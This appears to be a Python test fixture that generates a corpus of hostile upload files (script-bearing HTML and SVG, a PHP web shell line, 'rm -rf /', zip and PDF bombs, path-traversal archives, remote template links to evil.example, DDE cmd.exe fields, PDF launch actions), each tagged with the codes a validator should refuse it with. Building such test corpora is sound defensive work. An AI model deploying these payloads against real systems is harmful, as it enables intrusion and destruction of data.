"""Files that should not come in, made here: each with its name and the codes it may be refused with."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from io import BytesIO

from PIL import Image

XML = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
TYPES = XML + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
RELS = (
    XML + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="%s" TargetMode="%s"/></Relationships>'
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file: what it tries, its name, its content, and why it may be refused."""

    tries: str
    name: str
    content: bytes
    codes: tuple[str, ...]


def archive(parts: Mapping[str, bytes], *, stored: bool = False) -> bytes:
    """A zip of parts, in their order."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as book:
        for name, content in parts.items():
            book.writestr(name, content)
    return out.getvalue()


def docx(**more: bytes) -> bytes:
    """A text document; ``more`` are parts by their path, with ``__`` for a slash and ``_`` for a dot."""
    named = {name.replace("__", "/").replace("_", "."): content for name, content in more.items()}
    return archive({"[Content_Types].xml": TYPES, "word/document.xml": XML + b"<w:document/>"} | named)


def xlsx(parts: Mapping[str, bytes] | None = None) -> bytes:
    return archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": XML + b"<workbook/>"} | dict(parts or {}))


def pptx(parts: Mapping[str, bytes] | None = None) -> bytes:
    return archive({"[Content_Types].xml": TYPES, "ppt/presentation.xml": XML + b"<p/>"} | dict(parts or {}))


def hwpx(parts: Mapping[str, bytes] | None = None) -> bytes:
    return archive({"mimetype": b"application/hwp+zip", "Contents/content.hpf": XML + b"<p/>"} | dict(parts or {}))


def picture(form: str, size: tuple[int, int] = (8, 6), **options: object) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, (40, 90, 140)).save(out, form, **options)
    return out.getvalue()


def pdf(inside: bytes = b"", tail: bytes = b"%%EOF\n") -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + inside + b" >>\nendobj\ntrailer << /Root 1 0 R >>\n" + tail


def packed_object(text: bytes) -> bytes:
    """A PDF whose objects are inside a compressed object stream."""
    packed = zlib.compress(text)
    head = b"2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return b"%PDF-1.7\n" + head + packed + b"\nendstream\nendobj\n%%EOF\n"


def png_claiming(width: int, height: int) -> bytes:
    """A small PNG whose header promises many pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b"")]
    chunks = (struct.pack(">I", len(d)) + n + d + struct.pack(">I", zlib.crc32(n + d)) for n, d in parts)
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def edited(content: bytes, edit: Callable[[bytearray], None]) -> bytes:
    changed = bytearray(content)
    edit(changed)
    return bytes(changed)


def locked(content: bytes) -> bytes:
    """A zip whose parts say that they are encrypted."""
    at = content.index(b"PK\x01\x02")
    return edited(content, lambda parts: parts.__setitem__(at + 8, parts[at + 8] | 1))


def lying(content: bytes) -> bytes:
    """A zip whose index promises smaller parts than it has."""
    at = content.index(b"PK\x01\x02")
    return edited(content, lambda parts: parts.__setitem__(slice(at + 24, at + 28), struct.pack("<I", 5)))


def external(kind: bytes, target: bytes) -> bytes:
    return RELS % (kind, target, b"External")


def corpus() -> list[Hostile]:
    """All of them."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    page = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
    bomb = b"0" * 130_000_000
    entity = b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><w>&b;</w>'
    active = ("active",)
    return [
        Hostile("nothing", "a.pdf", b"", ("empty",)),
        # pages and drawings that run
        Hostile("a page", "a.html", page, active),
        Hostile("a page called text", "a.txt", page, active),
        Hostile("a page called PDF", "a.pdf", page, active),
        Hostile("a page behind spaces", "a.csv", b"\n\t  " + page, active),
        Hostile("a page behind a mark", "a.txt", b"\xef\xbb\xbf" + page, active),
        Hostile("a page in UTF-16", "a.txt", page.decode().encode("utf-16"), active),
        Hostile("a page in UTF-16, unmarked", "a.png", page.decode().encode("utf-16-le"), active),
        Hostile("a script in the middle", "a.csv", b"name,note\nKim,<script>alert(1)</script>\n", active),
        Hostile("a frame in the middle", "a.txt", b"hello <iframe src=//evil.example>", active),
        Hostile("a drawing", "a.svg", svg, active),
        Hostile("a drawing called PNG", "a.png", svg, active),
        Hostile("a drawing called text", "a.txt", svg, active),
        Hostile("a drawing behind a comment", "a.txt", b"<!-- x -->" + svg, active),
        Hostile("XML with entities", "a.txt", b'<?xml version="1.0"?>' + entity, active),
        Hostile("a server page", "a.txt", b"<?php system($_GET['c']); ?>", active),
        Hostile("a server page of Java", "a.txt", b'<%@ page import="java.io.*" %>', active),
        # programs
        Hostile("a Windows program", "a.exe", b"MZ\x90\0" + b"\0" * 60, active),
        Hostile("a Windows program called PDF", "a.pdf", b"MZ\x90\0" + b"\0" * 60, active),
        Hostile("a Linux program", "a.png", b"\x7fELF\x02\x01\x01" + b"\0" * 60, active),
        Hostile("a shell script", "a.txt", b"#!/bin/sh\nrm -rf /\n", active),
        Hostile("a Java class", "a.jpg", b"\xca\xfe\xba\xbe\0\0\x004", active),
        Hostile("a Mac program", "a.pdf", b"\xcf\xfa\xed\xfe\x07\0\0\x01", active),
        Hostile("WebAssembly", "a.docx", b"\0asm\x01\0\0\0", active),
        Hostile("a script by name", "a.js", b"alert(1)", ("unknown",)),
        Hostile("a batch file", "a.bat", b"del *.*", ("unknown",)),
        Hostile("a text without a name", "a", b"hello", ("unknown",)),
        # other kinds
        Hostile("GIF", "a.gif", picture("GIF"), ("unknown",)),
        Hostile("TIFF", "a.tif", picture("TIFF"), ("unknown",)),
        Hostile("BMP called text", "a.txt", picture("BMP"), ("not_text",)),
        Hostile("gzip", "a.gz", b"\x1f\x8b\x08\0\0\0", ("unknown",)),
        Hostile("RAR", "a.rar", b"Rar!\x1a\x07\0", ("unknown",)),
        Hostile("a plain zip", "a.zip", archive({"a.txt": b"hello"}), ("unknown",)),
        Hostile("a Java archive", "a.jar", archive({"META-INF/MANIFEST.MF": b"x"}), ("unknown",)),
        Hostile("an OpenDocument", "a.odt", archive({"mimetype": b"application/vnd.oasis"}), ("unknown",)),
        Hostile("old Office", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, ("old_office",)),
        Hostile("zeros called text", "a.txt", b"abc\0def", ("not_text",)),
        Hostile("terminal controls", "a.txt", b"\x1b]0;owned\x07", ("not_text",)),
        # pictures
        Hostile("a picture cut short", "a.png", picture("PNG", (400, 300))[:60], ("broken",)),
        Hostile("a JPEG's head alone", "a.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 40, ("broken",)),
        Hostile("a WebP's head alone", "a.webp", b"RIFF\x10\0\0\0WEBPVP8 ", ("broken",)),
        Hostile("a picture of 2,500 megapixels", "a.png", png_claiming(50_000, 50_000), ("too_many_pixels",)),
        Hostile("a picture one pixel high", "a.png", png_claiming(60_000, 1), ("too_many_pixels",)),
        Hostile("a picture without size", "a.png", png_claiming(0, 0), ("broken",)),
        # archives
        Hostile("a bomb", "a.docx", docx(word__a_xml=bomb), ("unpacks_too_far",)),
        Hostile("many parts", "a.xlsx", xlsx({f"xl/{n}.xml": b"" for n in range(5_001)}), ("unpacks_too_far",)),
        Hostile("an index that lies", "a.docx", lying(docx(word__a_xml=b"x" * 900)), ("broken",)),
        Hostile("a password", "a.xlsx", locked(xlsx()), ("locked",)),
        Hostile("a way up", "a.docx", archive({"../x": b"x", "word/document.xml": b"x"}), ("broken",)),
        Hostile("a way from the root", "a.docx", archive({"/etc/x": b"x", "word/document.xml": b"x"}), ("broken",)),
        Hostile("a Windows way", "a.docx", archive({"word\\x": b"x", "word/document.xml": b"x"}), ("broken",)),
        Hostile("two of one name", "a.docx", archive({"A.xml": b"", "a.xml": b""}), ("broken",)),
        Hostile("a tail behind the end", "a.docx", docx() + page, ("broken",)),
        Hostile("a zip cut short", "a.docx", docx()[:-30], ("broken",)),
        Hostile("macros", "a.docx", docx(word__vbaProject_bin=b"x"), ("macros",)),
        Hostile("macros called sheets", "a.xlsx", xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}), ("macros",)),
        Hostile("controls", "a.pptx", pptx({"ppt/activeX/activeX1.xml": b"<x/>"}), ("macros",)),
        Hostile(
            "macros by type",
            "a.docx",
            archive({"[Content_Types].xml": b"<T>macroEnabled.12</T>", "word/document.xml": b"<x/>"}),
            ("macros",),
        ),
        Hostile("a program inside", "a.docx", docx(word__media__a_png=b"MZ\x90\0"), ("embedded",)),
        Hostile("an old object inside", "a.docx", docx(word__embeddings__o_bin=b"\xd0\xcf\x11\xe0"), ("embedded",)),
        Hostile("a zip inside", "a.hwpx", hwpx({"BinData/x.bin": archive({"a": b"x"})}), ("embedded",)),
        Hostile(
            "macros in a workbook inside",
            "a.pptx",
            pptx({"ppt/embeddings/book.xlsx": xlsx({"xl/vbaProject.bin": b"x"})}),
            ("macros",),
        ),
        Hostile("entities", "a.docx", docx(word__a_xml=entity), ("entities",)),
        Hostile("entities in UTF-16", "a.docx", docx(word__a_xml=entity.decode().encode("utf-16")), ("entities",)),
        Hostile(
            "a template from elsewhere",
            "a.docx",
            docx(word___rels__settings_xml_rels=external(b"attachedTemplate", b"https://evil.example/t.dotm")),
            ("remote",),
        ),
        Hostile(
            "an object from elsewhere",
            "a.docx",
            docx(word___rels__document_xml_rels=external(b"oleObject", b"mhtml:http://evil.example/x")),
            ("remote",),
        ),
        Hostile(
            "a picture from elsewhere",
            "a.pptx",
            pptx({"ppt/_rels/a.xml.rels": external(b"image", b"\\\\evil.example\\share\\a.png")}),
            ("remote",),
        ),
        Hostile("data exchange", "a.xlsx", xlsx({"xl/externalLinks/a.xml": b'<ddeLink ddeTopic="x"/>'}), ("remote",)),
        Hostile(
            "data exchange in a field",
            "a.docx",
            docx(word__a_xml=b"<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>"),
            ("remote",),
        ),
        # PDF
        Hostile("a script", "a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), ("pdf_active",)),
        Hostile("a script in disguise", "a.pdf", pdf(b"/OpenAction << /S /J#61vaScript >>"), ("pdf_active",)),
        Hostile("a script in a packed object", "a.pdf", packed_object(b"1 0 << /S /JavaScript >>"), ("pdf_active",)),
        Hostile("a program", "a.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), ("pdf_active",)),
        Hostile("a file inside", "a.pdf", pdf(b"/Names << /EmbeddedFiles 3 0 R >>"), ("pdf_active",)),
        Hostile("a form that runs", "a.pdf", pdf(b"/AcroForm << /XFA 3 0 R >>"), ("pdf_active",)),
        Hostile("a form that sends", "a.pdf", pdf(b"/A << /S /SubmitForm >>"), ("pdf_active",)),
        Hostile("a packed bomb", "a.pdf", packed_object(b" " * 40_000_000), ("unpacks_too_far",)),
        Hostile("no end", "a.pdf", pdf(tail=b""), ("broken",)),
        Hostile("a page behind the end", "a.pdf", pdf() + page * 40, ("broken",)),
        Hostile("a zip behind the end", "a.pdf", pdf() + archive({"a": b"x"}), ("broken",)),
    ]
